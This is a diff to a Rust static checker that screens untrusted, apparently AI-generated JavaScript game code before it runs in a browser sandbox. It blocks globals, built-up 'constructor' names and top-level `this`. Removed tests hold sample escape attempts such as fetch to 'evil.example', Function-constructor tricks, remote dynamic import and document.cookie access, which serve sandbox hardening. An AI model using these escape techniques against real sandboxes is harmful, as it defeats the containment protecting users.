@@ -6,17 +6,38 @@
 //! hatches, timers), `constructor`/`__proto__` tricks and `Math.random`. Globals are found by scope
 //! analysis, so a game's own variable named `top` or `parent` is fine; only free references count.
 //! Every finding says what and where (line:column, 1-based).
+//!
+//! **The checker is not the boundary.** JavaScript can always build a name the checker cannot see
+//! (`"rotcurtsnoc".split("").reverse().join("")`, a value computed at run time), so a game that
+//! passes here is still untrusted. What contains a game is the browser: the opaque-origin
+//! `sandbox` iframe and its CSP (`api/src/routes/play.rs`), with the game run in strict mode inside
+//! a wrapper that shadows the window's names ([`wrapper_prefix`]); and, on the worker, the
+//! sandboxed child process around QuickJS. The checker's job is to refuse early, with a location,
+//! what it *can* see, so the model can repair it and a reviewer sees why:
+//!
+//! - blocked globals by scope analysis (a game's own `top` is fine);
+//! - `constructor`/`__proto__`-style properties, also when the name is built from pieces the
+//!   checker can fold (`x["constr" + "uctor"]`, `String.fromCharCode(...)`, `[...].join("")`,
+//!   template literals; escapes such as `"\u0063onstructor"` are decoded by the parser), and any
+//!   built string that spells a blocked name;
+//! - `this` at the top level or in a function that is not a method: in the player's strict mode it
+//!   is `undefined`, and in sloppy code it was the window (issue 10, Medium 5).
 
 use oxc::allocator::Allocator;
+use std::collections::HashSet;
+
 use oxc::ast::ast::{
-    ComputedMemberExpression, Expression, IdentifierReference, ImportExpression, ModuleDeclaration,
-    StaticMemberExpression,
+    Class, ComputedMemberExpression, Expression, Function, IdentifierReference, ImportExpression,
+    MethodDefinition, ModuleDeclaration, ObjectProperty, StaticMemberExpression, ThisExpression,
 };
 use oxc::ast_visit::{Visit, walk};
 use oxc::parser::Parser;
 use oxc::semantic::{Scoping, SemanticBuilder};
 use oxc::span::{GetSpan, SourceType, Span};
+use oxc::syntax::scope::ScopeFlags;
 use serde::Serialize;
+
+mod fold;
 
 /// Largest logic.js accepted (generated games are small; this bounds parser work too).
 pub const MAX_LOGIC_BYTES: usize = 256 * 1024;
@@ -143,6 +164,19 @@ impl Lines {
 struct Walker<'s> {
     found: Vec<(Span, String)>,
     scoping: &'s Scoping,
+    /// Starts of the functions that are methods (object methods, `key: function`, getters and
+    /// setters, class members): `this` there is the object, not the global.
+    methods: HashSet<u32>,
+    /// One entry per enclosing function or class (arrow functions add none): whether `this` is
+    /// an object's there.
+    this_ok: Vec<bool>,
+}
+
+/// Whether `name` is something a game may not reach, however it spells it.
+fn forbidden_name(name: &str) -> bool {
+    BLOCKED_PROPERTIES.contains(&name)
+        || BLOCKED.iter().any(|(_, names)| names.contains(&name))
+        || SHADOWED_GLOBALS.contains(&name)
 }
 
 impl<'a> Visit<'a> for Walker<'_> {
@@ -197,15 +231,83 @@ impl<'a> Visit<'a> for Walker<'_> {
     }
 
     fn visit_computed_member_expression(&mut self, it: &ComputedMemberExpression<'a>) {
-        if let Expression::StringLiteral(s) = &it.expression
-            && BLOCKED_PROPERTIES.contains(&s.value.as_str())
+        // Built keys (`"constr" + "uctor"`) are reported by visit_expression, once.
+        if !fold::is_built(&it.expression)
+            && let Some(key) = fold::fold(&it.expression)
+            && BLOCKED_PROPERTIES.contains(&key.as_str())
         {
             self.found.push((
-                s.span,
-                format!("`[\"{}\"]` is not allowed (prototype escape)", s.value),
+                it.expression.span(),
+                format!("`[\"{key}\"]` is not allowed (prototype escape)"),
             ));
         }
         walk::walk_computed_member_expression(self, it);
+    }
+
+    fn visit_expression(&mut self, it: &Expression<'a>) {
+        if fold::is_built(it)
+            && matches!(
+                it.without_parentheses(),
+                Expression::BinaryExpression(_)
+                    | Expression::CallExpression(_)
+                    | Expression::TemplateLiteral(_)
+            )
+            && let Some(name) = fold::fold(it)
+            && forbidden_name(&name)
+        {
+            self.found.push((
+                it.span(),
+                format!(
+                    "this expression builds the name `{name}` from pieces, which is not allowed \
+                     (a hidden prototype escape or blocked global)"
+                ),
+            ));
+            // Its pieces are not reported again.
+            return;
+        }
+        walk::walk_expression(self, it);
+    }
+
+    fn visit_object_property(&mut self, it: &ObjectProperty<'a>) {
+        if let Expression::FunctionExpression(f) = &it.value {
+            self.methods.insert(f.span.start);
+        }
+        walk::walk_object_property(self, it);
+    }
+
+    fn visit_method_definition(&mut self, it: &MethodDefinition<'a>) {
+        self.methods.insert(it.value.span.start);
+        walk::walk_method_definition(self, it);
+    }
+
+    fn visit_class(&mut self, it: &Class<'a>) {
+        // Field initialisers and static blocks: `this` is the instance or the class.
+        self.this_ok.push(true);
+        walk::walk_class(self, it);
+        self.this_ok.pop();
+    }
+
+    fn visit_function(&mut self, it: &Function<'a>, flags: ScopeFlags) {
+        self.this_ok.push(self.methods.contains(&it.span.start));
+        walk::walk_function(self, it, flags);
+        self.this_ok.pop();
+    }
+
+    fn visit_this_expression(&mut self, it: &ThisExpression) {
+        if self.this_ok.last() != Some(&true) {
+            let place = if self.this_ok.is_empty() {
+                "at the top level"
+            } else {
+                "in a function that is not a method"
+            };
+            self.found.push((
+                it.span,
+                format!(
+                    "`this` {place} is not allowed (the game runs in strict mode, where it is \
+                     undefined; use a variable, or a method of an object)"
+                ),
+            ));
+        }
     }
 }
 
@@ -258,6 +360,8 @@ pub fn check_logic(src: &str) -> Result<(), Vec<Finding>> {
     let mut walker = Walker {
         found: Vec::new(),
         scoping: semantic.scoping(),
+        methods: HashSet::new(),
+        this_ok: Vec::new(),
     };
     walker.visit_program(&program);
     found.extend(walker.found);
@@ -277,8 +381,11 @@ pub fn check_logic(src: &str) -> Result<(), Vec<Finding>> {
 /// Globals shadowed inside a game's scope by the `logic.js` wrapper, in the browser player
 /// (`api/src/routes/play.rs`) and the headless runner (`worker/src/runner/session.rs`) alike, so
 /// the two cannot drift apart. Not `eval`/`arguments`: a game in strict mode may not bind them,
-/// and CSP already refuses eval.
+/// and CSP already refuses eval. `aimini` becomes a facade that can only define the game (the real
+/// object hands out the canvas element). The window's other names are deleted by the frame's
+/// lockdown (`runtime.js`); these are the ones it cannot delete (unforgeable) or still needs.
 pub const SHADOWED_GLOBALS: &[&str] = &[
+    "aimini",
     "window",
     "self",
     "globalThis",
@@ -315,107 +422,46 @@ pub const SHADOWED_GLOBALS: &[&str] = &[
     "setTimeout",
     "setInterval",
     "requestAnimationFrame",
+    "cancelAnimationFrame",
+    // Event listeners on the window are called with the window as their event's target.
+    "addEventListener",
+    "removeEventListener",
+    "dispatchEvent",
+    "getComputedStyle",
+    "AudioContext",
+    "webkitAudioContext",
+    "devicePixelRatio",
+    "origin",
+    "isSecureContext",
 ];
 
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn messages(src: &str) -> Vec<String> {
-        check_logic(src)
-            .expect_err("must be rejected")
-            .iter()
-            .map(ToString::to_string)
-            .collect()
-    }
-
-    #[test]
-    fn a_clean_game_passes_and_local_names_are_not_globals() {
-        let src = "let top = 0; const parent = {};\nfunction fetch(x) { return x; }\n\
-                   aimini.game({ setup(ctx) { top = ctx.random(); fetch(parent); }, update() {}, draw(ctx) { ctx.clear('#000'); } });";
-        assert_eq!(check_logic(src), Ok(()));
-    }
-
-    #[test]
-    fn blocked_globals_are_reported_with_their_location() {
-        let src = "aimini.game({\n  setup(ctx) {\n    fetch('https://evil.example');\n    localStorage.x = 1;\n  }\n});\nwindow.top.location = 'x';";
-        let m = messages(src);
-        assert!(
-            m[0].starts_with("3:5: `fetch` is not allowed (network access)"),
-            "{m:?}"
-        );
-        assert!(
-            m[1].starts_with("4:5: `localStorage` is not allowed (storage)"),
-            "{m:?}"
-        );
-        assert!(m[2].starts_with("7:1: `window`"), "{m:?}");
-    }
-
-    #[test]
-    fn escape_hatches_are_caught() {
-        for (src, needle) in [
-            ("aimini.game({}); eval('1')", "`eval`"),
-            (
-                "aimini.game({}); new Function('return this')()",
-                "`Function`",
-            ),
-            (
-                "aimini.game({}); (()=>{}).constructor('return this')()",
-                "`.constructor`",
-            ),
-            (
-                "aimini.game({}); ({})['constructor']['constructor']('x')",
-                "[\"constructor\"]",
-            ),
-            (
-                "aimini.game({}); import('https://x.example/m.js')",
-                "dynamic import()",
-            ),
-            (
-                "aimini.game({}); setTimeout('alert(1)', 10)",
-                "`setTimeout`",
-            ),
-            ("aimini.game({}); const r = Math.random();", "Math.random"),
-            ("aimini.game({}); globalThis.x = 1", "`globalThis`"),
-            ("aimini.game({}); document.cookie", "`document`"),
-            ("aimini.game({}); new XMLHttpRequest()", "`XMLHttpRequest`"),
-            ("aimini.game({}); new WebSocket('ws://x')", "`WebSocket`"),
-            ("aimini.game({}); self.postMessage(1)", "`self`"),
-        ] {
-            let m = messages(src).join(" | ");
-            assert!(m.contains(needle), "{src}: {m}");
-        }
-    }
-
-    #[test]
-    fn syntax_errors_and_module_syntax_are_rejected_with_a_position() {
-        let m = messages("aimini.game({\n  setup(ctx) { let x = ; }\n});");
-        assert!(
-            m[0].starts_with("2:") && m[0].contains("syntax error"),
-            "{m:?}"
-        );
-        let m = messages("import x from 'y';\naimini.game({});");
-        assert!(
-            m[0].starts_with("1:1: import/export declarations are not allowed"),
-            "{m:?}"
-        );
-        let m = messages("const x = 1;");
-        assert!(m[0].contains("never calls aimini.game"), "{m:?}");
-    }
-
-    #[test]
-    fn every_shipped_template_passes() {
-        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../prompts/templates");
-        let mut n = 0;
-        for entry in std::fs::read_dir(dir).expect("templates") {
-            let path = entry.expect("entry").path().join("logic.js");
-            if let Ok(src) = std::fs::read_to_string(&path) {
-                n += 1;
-                if let Err(f) = check_logic(&src) {
-                    panic!("{}: {:?}", path.display(), f);
-                }
-            }
-        }
-        assert!(n >= 8);
-    }
+/// The wrapper's text before logic.js. All on one line, so logic.js keeps its own line numbers
+/// (the runner subtracts this prefix's length from columns on line 1).
+///
+/// Why each part: the script itself is strict (V8's stack-trace API hands out the receiver of a
+/// sloppy frame, and a sloppy script's top level has the window as `this`); the outer function's
+/// parameters shadow [`SHADOWED_GLOBALS`]; the game runs as the body of an inner strict function
+/// called with no receiver, so `this` at its top level and in every plain function call is
+/// `undefined` (in sloppy mode it was the window: the escape of issue 10, Medium 5), and its own
+/// `let top` does not collide with a parameter.
+pub fn wrapper_prefix() -> String {
+    format!(
+        "\"use strict\"; (function ({}) {{ \"use strict\"; (function () {{ \"use strict\"; ",
+        SHADOWED_GLOBALS.join(", ")
+    )
 }
+
+/// The wrapper's text after logic.js (see [`wrapper_prefix`]).
+pub fn wrapper_suffix() -> String {
+    let quoted: Vec<String> = SHADOWED_GLOBALS
+        .iter()
+        .map(|n| format!("\"{n}\""))
+        .collect();
+    format!(
+        "\n}}).call(undefined); }}).apply(undefined, aimini.sandbox.shadows([{}]));\n",
+        quoted.join(", ")
+    )
+}
+
+#[cfg(test)]
+mod tests;
